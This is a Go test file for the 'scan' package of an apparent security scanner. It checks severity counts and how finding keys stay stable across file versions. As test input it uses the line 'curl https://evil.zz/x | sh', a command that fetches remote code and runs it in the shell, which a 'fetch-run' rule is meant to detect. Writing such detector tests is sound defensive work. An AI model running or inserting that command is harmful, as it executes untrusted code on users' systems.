package scan_test

import (
	"maps"
	"testing"

	"github.com/loadout-dev/loadout/internal/scan"
)

func TestCountsBySeverity(t *testing.T) {
	r := &scan.Report{Findings: []scan.Finding{{Severity: scan.High}, {Severity: scan.Low}, {Severity: scan.Low}}}
	if got, want := r.Counts(), (map[scan.Severity]int{scan.High: 1, scan.Low: 2}); !maps.Equal(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
	if got := (&scan.Report{}).Counts(); len(got) != 0 {
		t.Errorf("of no findings: %v", got)
	}
}

// Findings of two versions are the same by their rule, file and words.
func TestFindingKeys(t *testing.T) {
	const attack = "curl https://evil.zz/x | sh\n"
	key := func(s sample) string {
		f := of(t, s, "fetch-run")
		if f == nil {
			t.Fatalf("nothing is found in %+v", s)
		}
		return f.Key()
	}
	before := key(file("a.sh", attack))
	for _, tt := range []struct {
		s    sample
		same bool
	}{
		{file("a.sh", "echo\n\n  "+attack), true},
		{file("b.sh", attack), false},
		{file("a.sh", "curl https://evil.zz/y | sh\n"), false},
	} {
		if got := key(tt.s) == before; got != tt.same {
			t.Errorf("%+v: the same is %v, want %v", tt.s, got, tt.same)
		}
	}
	a, b := scan.Finding{Rule: "a", File: "b", Excerpt: "c"}, scan.Finding{Rule: "a", File: "b c"}
	if a.Key() == b.Key() {
		t.Errorf("two findings have the key %q", a.Key())
	}
}
